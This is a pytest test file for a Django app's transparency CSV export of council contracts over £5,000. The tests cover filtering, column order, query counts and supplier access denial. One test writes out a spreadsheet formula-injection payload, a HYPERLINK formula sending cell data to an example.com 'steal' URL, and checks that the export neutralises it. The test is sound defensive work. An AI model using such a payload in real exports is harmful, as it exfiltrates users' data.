from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts import roles
from procurement.models import Contract, Route, Supplier
from procurement.selectors.exports import TRANSPARENCY_HEADER, contracts_for_transparency
from tests.factories import UserFactory
from tests.procurement.factories import ContractFactory, SupplierFactory

pytestmark = pytest.mark.django_db

URL = reverse("procurement:transparency-contracts-csv")


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_only_contracts_over_five_thousand_pounds_are_listed():
    for reference, value in [
        ("C-1", Decimal("5000")),
        ("C-2", Decimal("5000.01")),
        ("C-3", None),
        ("C-4", Decimal("250000")),
        ("C-5", Decimal("4999.99")),
    ]:
        ContractFactory(reference=reference, total_value=value)

    assert [row[0] for row in contracts_for_transparency()] == ["C-2", "C-4"]


def test_the_selector_runs_one_query(django_assert_num_queries):
    ContractFactory.create_batch(3)

    with django_assert_num_queries(1):
        rows = list(contracts_for_transparency())

    assert len(rows) == 3


def test_the_csv_has_the_transparency_code_columns_in_order(member_client):
    supplier = SupplierFactory(
        name="Malvern Hills Community Transport",
        company_number="",
        charity_number="1098765",
        size=Supplier.Size.MICRO,
        is_vcse=True,
    )
    ContractFactory(
        reference="WCC-0377",
        title="Day opportunities transport",
        department="People",
        description="Door-to-door transport",
        supplier=supplier,
        total_value=Decimal("24750.50"),
        start_date=dt.date(2025, 7, 7),
        end_date=dt.date(2030, 7, 6),
        review_date=dt.date(2029, 7, 6),
        route=Route.LIGHT_TOUCH,
    )

    response = member_client.get(URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="contracts-over-5000')
    rows = _rows(response)
    assert (
        rows[0]
        == TRANSPARENCY_HEADER
        == [
            "Reference",
            "Title",
            "Department",
            "Description",
            "Supplier name",
            "Supplier company number",
            "Supplier charity number",
            "Value (£)",
            "Start date",
            "End date",
            "Review date",
            "Procurement route",
            "SME",
            "VCSE",
        ]
    )
    assert rows[1] == [
        "WCC-0377",
        "Day opportunities transport",
        "People",
        "Door-to-door transport",
        "Malvern Hills Community Transport",
        "",
        "1098765",
        "24750.50",
        "2025-07-07",
        "2030-07-06",
        "2029-07-06",
        "Light touch regime",
        "Yes",
        "Yes",
    ]


@pytest.mark.parametrize(
    "size,sme", [("small", "Yes"), ("medium", "Yes"), ("large", "No"), ("unknown", "Not known")]
)
def test_the_sme_column_follows_the_supplier_size(member_client, size, sme):
    ContractFactory(supplier=SupplierFactory(size=size, company_number="01234567"))

    row = _rows(member_client.get(URL))[1]

    assert (row[5], row[12], row[13]) == ("01234567", sme, "No")


def test_rows_are_ordered_by_reference(member_client):
    for reference in ["WCC-300", "ocds-h6vhtk-04a1b2/1", "WCC-100"]:
        ContractFactory(reference=reference)

    rows = _rows(member_client.get(URL))

    assert [row[0] for row in rows[1:]] == sorted(["WCC-300", "ocds-h6vhtk-04a1b2/1", "WCC-100"])


def test_a_formula_in_a_title_comes_out_as_text(member_client):
    ContractFactory(
        title='=HYPERLINK("http://example.com/steal?d="&A1,"Click")',
        description="+44 1905 763763",
        supplier=SupplierFactory(name="@Risk Ltd"),
    )

    row = _rows(member_client.get(URL))[1]

    assert row[1] == '\'=HYPERLINK("http://example.com/steal?d="&A1,"Click")'
    assert row[3] == "'+44 1905 763763"
    assert row[4] == "'@Risk Ltd"


def test_the_download_runs_the_same_number_of_queries_whatever_the_size(member_client):
    counts = []
    for total in (1, 41):
        ContractFactory.create_batch(total - Contract.objects.count())
        with CaptureQueriesContext(connection) as queries:
            response = member_client.get(URL)
        assert len(_rows(response)) == total + 1
        counts.append(len(queries))

    assert counts[0] == counts[1]


def test_a_supplier_cannot_download_it(client):
    user = UserFactory(username="supplier-user")
    user.groups.add(Group.objects.get(name=roles.SUPPLIERS))
    client.force_login(user)

    assert client.get(URL).status_code == 403
